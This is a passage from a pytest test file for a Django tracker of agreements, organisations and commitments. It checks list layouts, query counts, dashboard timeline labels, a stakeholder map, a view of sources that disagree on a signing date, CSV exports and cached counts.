    assert '<td data-label="Place">Rabat &lt;Skhirat&gt;</td>' in html
    header, row = csv_rows(admin_client.get("/agreements/", {"format": "csv"}))
    assert header[-1] == "place" and row[-1] == "Rabat <Skhirat>"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url", ["/agreements/", "/organisations/", "/people/", "/commitments/", "/sources/"]
)
def test_every_list_labels_each_cell_for_the_phone_layout(admin_client, article_data, url):
    html = page(admin_client, url).content.decode()
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    cells = re.findall(r"<td\b[^>]*>", body)
    assert cells and [cell for cell in cells if "data-label=" not in cell] == []


@pytest.mark.django_db
def test_sorted_heading_says_its_direction_and_links_to_the_other(admin_client):
    factories.AgreementFactory()
    html = page(admin_client, "/agreements/", ordering="-title").content.decode()
    assert 'aria-sort="descending"><a href="?ordering=title">' in html
    assert 'aria-sort="none"><a href="?ordering=signed_on">' in html


# Besides the session and the user: the count, the page, and one query per related list shown.
LIST_QUERIES = {
    "/agreements/": 2 + 3,  # parties with their organisations; commitments only counted
    "/organisations/": 2 + 3,  # other names
    "/people/": 2 + 3,  # positions with their organisations
    "/commitments/": 2 + 2,  # agreement, party and beneficiary joined
    "/sources/": 2 + 2,  # citations only counted
}


@pytest.mark.django_db
@pytest.mark.parametrize("url", LIST_QUERIES)
def test_lists_load_only_what_their_columns_show(admin_client, url, django_assert_num_queries):
    build_rows(3)
    # PostgreSQL: one more, the planner's estimate of the table's rows, read from the catalogue
    # before an unfiltered list is counted (tracker/pagination.py).
    estimate = 1 if connection.vendor == "postgresql" else 0
    with django_assert_num_queries(LIST_QUERIES[url] + estimate):
        fetch(admin_client, url)


# The axis labels are 11 units high; a character of them is at most about 6.5 units wide.
LABEL_CHARACTER_WIDTH = 6.5


@pytest.mark.django_db
@pytest.mark.parametrize("chart", ["timeline", "phone_timeline"])
@pytest.mark.parametrize("language", ["en", "fr"])
def test_dashboard_timeline_labels_do_not_overlap(admin_client, language, chart):
    factories.AgreementFactory(signed_on=datetime.date(2021, 12, 28))
    response = admin_client.get("/", HTTP_ACCEPT_LANGUAGE=language)
    shown = [bar for bar in response.context[chart]["bars"] if bar["show_label"]]
    assert len(shown) >= 2  # more than one period is named, the latest always
    for before, after in zip(shown, shown[1:], strict=False):
        room = after["label_x"] - before["label_x"]
        needed = LABEL_CHARACTER_WIDTH * (len(before["label"]) + len(after["label"])) / 2
        assert room >= needed, (before["label"], after["label"], room)


@pytest.mark.django_db
@pytest.mark.parametrize("chart", ["timeline", "phone_timeline"])
def test_dashboard_timeline_keeps_the_latest_periods_name_inside_the_chart(admin_client, chart):
    factories.AgreementFactory(signed_on=datetime.date(2021, 12, 28))
    timeline = page(admin_client, "/").context[chart]
    latest = timeline["bars"][-1]
    assert latest["show_label"]
    assert latest["label_x"] + LABEL_CHARACTER_WIDTH * len(latest["label"]) / 2 <= timeline["width"]


@pytest.mark.django_db
def test_dashboard_timeline_for_phones_has_fewer_longer_periods_drawn_near_life_size(
    admin_client,
):
    for year in range(2020, 2024):
        for month in (2, 8):
            factories.AgreementFactory(signed_on=datetime.date(year, month, 1))
    response = page(admin_client, "/")
    wide, phone = response.context["timeline"], response.context["phone_timeline"]
    assert len(wide["bars"]) == 43 and wide["bars"][0]["label"] == "February 2020"
    assert [bar["label"] for bar in phone["bars"]][:2] == ["Q1 2020", "Q2 2020"]
    assert len(phone["bars"]) == 15 and sum(bar["count"] for bar in phone["bars"]) == 8
    # A phone's content column is about 360 px wide: the chart is not shrunk below its size.
    assert phone["width"] <= 390
    html = response.content.decode()
    assert 'class="timeline timeline-wide"' in html and 'class="timeline timeline-phone"' in html


# The stakeholder map ------------------------------------------------------------------------


def parties(*organisations, **agreement):
    signed = factories.AgreementFactory(**agreement)
    for organisation in organisations:
        factories.AgreementPartyFactory(agreement=signed, organisation=organisation)
    return signed


@pytest.fixture
def two_groups_and_a_loner(db):
    """Four organisations bound by agreements, two others by one, and one alone."""
    health = factories.OrganisationFactory(
        name="Ministère de la Santé et de la Protection sociale", kind=OrganisationKind.MINISTRY
    )
    cluster = factories.OrganisationFactory(name="Cluster", kind=OrganisationKind.CLUSTER)
    first, second = factories.OrganisationFactory(), factories.OrganisationFactory()
    for _ in range(3):
        parties(health, cluster)
    parties(health, first, second)
    parties(factories.OrganisationFactory(), factories.OrganisationFactory())
    parties(factories.OrganisationFactory(name="Alone", kind=OrganisationKind.FOUNDATION))
    return health, cluster, first, second


@pytest.mark.django_db
def test_map_names_organisations_in_full_with_a_legend_of_kinds_and_sizes(
    admin_client, two_groups_and_a_loner
):
    response = page(admin_client, "/map/")
    drawing = response.context["drawing"]
    lines = {" ".join(node["lines"]) for node in drawing.nodes}
    assert "Ministère de la Santé et de la Protection sociale" in lines
    html = response.content.decode()
    assert "…" not in html.split('<g class="nodes">', 1)[1].split("</svg>", 1)[0]
    legend = html.split('<ul class="map-legend"', 1)[1].split("</ul>", 1)[0]
    for kind in ("Ministry", "Industry cluster", "Company", "Foundation"):
        assert kind in legend
    assert "Clinic" not in legend  # only the kinds drawn
    assert "agreements on this map (circle size)" in legend
    assert [size["count"] for size in drawing.sizes] == [1, 2, 4]


@pytest.mark.django_db
def test_map_node_size_grows_with_the_organisations_agreements(
    admin_client, two_groups_and_a_loner
):
    health, cluster, first, _second = two_groups_and_a_loner
    nodes = {
        node["organisation"]: node for node in page(admin_client, "/map/").context["drawing"].nodes
    }
    assert (nodes[health]["agreement_count"], nodes[cluster]["agreement_count"]) == (4, 3)
    assert nodes[first]["agreement_count"] == 1
    assert nodes[health]["r"] > nodes[cluster]["r"] > nodes[first]["r"]


@pytest.mark.django_db
def test_map_layout_is_the_same_every_time_and_keeps_connected_organisations_together(
    admin_client, two_groups_and_a_loner
):
    drawings = [page(admin_client, "/map/").context["drawing"] for _ in range(2)]
    placed = [
        {node["organisation"].pk: (node["x"], node["y"]) for node in d.nodes} for d in drawings
    ]
    assert placed[0] == placed[1]
    drawing = drawings[0]
    for x, y in placed[0].values():
        assert 0 < x < drawing.width and 0 < y < drawing.height
    # The largest group spreads over a good part of the map, not crowded by the others.
    group = [placed[0][organisation.pk] for organisation in two_groups_and_a_loner]
    assert max(x for x, _y in group) - min(x for x, _y in group) > drawing.width / 3


@pytest.mark.django_db
def test_map_offers_no_sort_order(admin_client, article_data):
    html = page(admin_client, "/map/", ordering="-title").content.decode()
    assert 'name="ordering"' not in html
    assert 'name="ordering"' in page(admin_client, "/agreements/").content.decode()


@pytest.mark.django_db
def test_map_layout_cost_is_bounded_by_the_nodes_drawn(admin_client, django_assert_num_queries):
    hub = factories.OrganisationFactory()
    for _ in range(graph.MAX_NODES + 20):
        parties(hub, factories.OrganisationFactory(), factories.OrganisationFactory())
    drawing = graph.layout(graph.agreements_map(Agreement.objects.all()))
    assert len(drawing.nodes) == graph.MAX_NODES
    # Session, user, the agreements, their parties, the links among the organisations drawn.
    with django_assert_num_queries(5):
        page(admin_client, "/map/")


# Sources that disagree ------------------------------------------------------------------


@pytest.fixture
def planted(article_data):
    """The article data plus a synthetic source dating the accord 27 December 2021."""
    return factories.plant_accord_disagreement()


def claims_in(html, citation):
    return f'href="{citation.source.get_absolute_url()}#citation-{citation.pk}"' in html


@pytest.mark.django_db
def test_accord_page_shows_both_signing_dates_with_their_quotes(admin_client, planted):
    accord = Agreement.objects.get(slug=ACCORD)
    html = page(admin_client, accord.get_absolute_url()).content.decode()
    disputes = html[html.index('id="disputes-heading"') :]
    assert "Sources disagree" in html
    assert "27 December 2021" in disputes and "28 December 2021" in disputes
    for citation in accord.citations.exclude(field=""):
        assert claims_in(disputes, citation), citation.quote
    # The record keeps the date staff chose, and says so.
    accord.refresh_from_db()
    assert accord.signed_on == datetime.date(2021, 12, 28)
    assert "This record holds: <strong>28 December 2021</strong>" in disputes


@pytest.mark.django_db
def test_record_page_without_disagreement_shows_no_dispute(admin_client, article_data):
    html = page(admin_client, Agreement.objects.get(slug=ACCORD).get_absolute_url())
    assert "Sources disagree" not in html.content.decode()


@pytest.mark.django_db
def test_organisation_page_says_more_than_40_members(admin_client, article_data):
    html = page(admin_client, "/organisations/mmi-cluster/").content.decode()
    assert "more than 40" in html


@pytest.mark.django_db
def test_disagreements_list_shows_the_accord_s_two_dates_and_their_quote_counts(
    admin_client, planted
):
    response = page(admin_client, "/disagreements/")
    (dispute,) = response.context["disagreements"]
    assert dispute.record.slug == ACCORD
    assert [(v.value, len(v.citations)) for v in dispute.values] == [
        ("2021-12-27", 1),
        ("2021-12-28", 2),
    ]
    html = response.content.decode()
    assert "27 December 2021" in html and "28 December 2021" in html
    assert 'href="/disagreements/"' in html  # in the navigation
    assert page(admin_client, "/disagreements/", kind="organisation").context["disagreements"] == []
    assert (
        len(page(admin_client, "/disagreements/", kind="agreement").context["disagreements"]) == 1
    )


@pytest.mark.django_db
def test_disagreements_csv_holds_both_dates(admin_client, planted):
    response = page(admin_client, "/disagreements/", format="csv")
    header, *rows = csv_rows(response)
    assert header[:4] == ["kind", "record", "record key", "field"]
    assert rows == [
        [
            "agreement",
            Agreement.objects.get(slug=ACCORD).title,
            ACCORD,
            "Signing date",
            "28 December 2021",
            "27 December 2021 (1); 28 December 2021 (2)",
            "3",
        ]
    ]


@pytest.mark.django_db
def test_disagreements_bad_filter_shows_the_error_and_no_rows(admin_client, planted):
    response = page(admin_client, "/disagreements/", kind="spaceship")
    assert response.context["disagreements"] == []
    assert "spaceship" in response.content.decode()
    assert admin_client.get("/disagreements/", {"kind": "x", "format": "csv"}).status_code == 400


@pytest.mark.django_db
def test_disagreements_list_queries_do_not_grow_with_rows(admin_client):
    def dispute_between(record, field, first, second):
        target = record.citation_target
        for value in (first, second):
            factories.CitationFactory(
                **{"organisation": None, target: record, "field": field, "value": value}
            )

    counts = []
    for total in (1, 30):
        while Citation.objects.disputes().count() < total:
            dispute_between(factories.AgreementFactory(), "signed_on", "2021-12-28", "2021")
            dispute_between(factories.CommitmentFactory(), "status", "met", "not_met")
            dispute_between(factories.OrganisationFactory(), "members", "40", ">40")
        with CaptureQueriesContext(connection) as captured:
            response = page(admin_client, "/disagreements/")
        assert len(response.context["disagreements"]) == min(
            Citation.objects.disputes().count(), 25
        )
        counts.append(len(captured))
    assert counts[0] == counts[1]


@pytest.mark.django_db
def test_organisation_csv_gives_founding_date_and_members(admin_client):
    factories.OrganisationFactory(
        slug="cluster",
        founded_on=datetime.date(2020, 7, 1),
        founded_on_precision="month",
        members=40,
        members_qualifier="more_than",
    )
    header, row = csv_rows(admin_client.get("/organisations/", {"format": "csv"}))
    cells = dict(zip(header, row, strict=True))
    assert cells["founded on"] == "2020-07-01"
    assert cells["precision of the founding date"] == "month"
    assert cells["members"] == "40"
    assert cells["how exact the number of members is"] == "more_than"


def test_an_organisation_shows_its_country_by_name_and_the_csv_keeps_its_code(admin_client):
    from django.utils import translation

    factories.OrganisationFactory(slug="sanofi-france", name="Sanofi France", country="FR")
    detail = page(admin_client, "/organisations/sanofi-france/").content.decode()
    assert "France" in detail and "· FR" not in detail
    listed = page(admin_client, "/organisations/").content.decode()
    assert "<td>France</td>" in listed or ">France<" in listed
    moroccan = factories.OrganisationFactory(slug="maroc-co", country="MA")
    with translation.override("fr"):
        french = admin_client.get(moroccan.get_absolute_url(), HTTP_ACCEPT_LANGUAGE="fr")
    assert "Maroc" in french.content.decode()
    header, *rows = csv_rows(admin_client.get("/organisations/", {"format": "csv"}))
    assert {row[header.index("country")] for row in rows} == {"FR", "MA"}


# Dashboard cost ---------------------------------------------------------------------------


def counts_whole_tables(captured):
    """The queries that count or group a whole tracker table (`COUNT(` over a tracker_ table)."""
    return [
        query["sql"]
        for query in captured
        if "COUNT(" in query["sql"].upper() and "tracker_" in query["sql"]
    ]


@pytest.fixture
def empty_shared_cache():
    """The dashboard keeps its figures in the cache table, which no test flushes."""
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


@pytest.mark.django_db(transaction=True)
def test_dashboard_does_not_count_whole_tables_again_while_the_data_is_unchanged(
    admin_client, empty_shared_cache
):
    build_rows(3)
    page(admin_client, "/")
    with CaptureQueriesContext(connection) as first:
        page(admin_client, "/")
    build_rows(10)
    page(admin_client, "/")
    with CaptureQueriesContext(connection) as many:
        page(admin_client, "/")
    assert counts_whole_tables(first.captured_queries) == []
    assert len(many.captured_queries) == len(first.captured_queries)


@pytest.mark.django_db(transaction=True)
def test_dashboard_shows_a_write_at_once(admin_client, empty_shared_cache):
    late = factories.CommitmentFactory(
        due_on=datetime.date(2022, 1, 1), status=CommitmentStatus.IN_PROGRESS
    )
    before = page(admin_client, "/").context
    assert dict((str(label), n) for label, n, _url in before["counts"])["agreements"] == 1
    assert list(before["overdue"]) == [late]

    factories.AgreementFactory(signed_on=datetime.date(2023, 5, 6))
    late.status = CommitmentStatus.MET
    late.save()

    after = page(admin_client, "/").context
    assert dict((str(label), n) for label, n, _url in after["counts"])["agreements"] == 2
    assert list(after["overdue"]) == []
    by_status = {s["value"]: s["count"] for s in after["statuses"]}
    assert by_status["met"] == 1 and by_status["in_progress"] == 0
    assert sum(bar["count"] for bar in after["timeline"]["bars"]) == 2


@pytest.mark.django_db(transaction=True)
def test_a_long_filtered_list_is_counted_once_until_the_data_changes(
    admin_client, empty_shared_cache, monkeypatch
):
    """Paging through a long filtered list does not count it again for every page; a write
    shows in the next page's count at once."""
    from tracker import pagination

    monkeypatch.setattr(pagination, "KEEP_COUNT_FROM", 3)
    factories.CommitmentFactory.create_batch(4, status=CommitmentStatus.IN_PROGRESS)
    factories.CommitmentFactory(status=CommitmentStatus.MET)
    listed = "/commitments/?status=in_progress"

    assert page(admin_client, listed).context["page_obj"].paginator.count == 4
    with CaptureQueriesContext(connection) as again:
        assert page(admin_client, listed + "&page=1").context["page_obj"].paginator.count == 4
    assert list_counts(again.captured_queries) == []

    met = Commitment.objects.get(status=CommitmentStatus.MET)
    met.status = CommitmentStatus.IN_PROGRESS
    met.save()
    assert page(admin_client, listed).context["page_obj"].paginator.count == 5

    # A short list is not kept: it costs less to count than to keep.
    with CaptureQueriesContext(connection) as short:
        page(admin_client, "/commitments/?status=met")
    assert list_counts(short.captured_queries)


def list_counts(captured):
    return [query["sql"] for query in captured if query["sql"].startswith("SELECT COUNT(*)")]
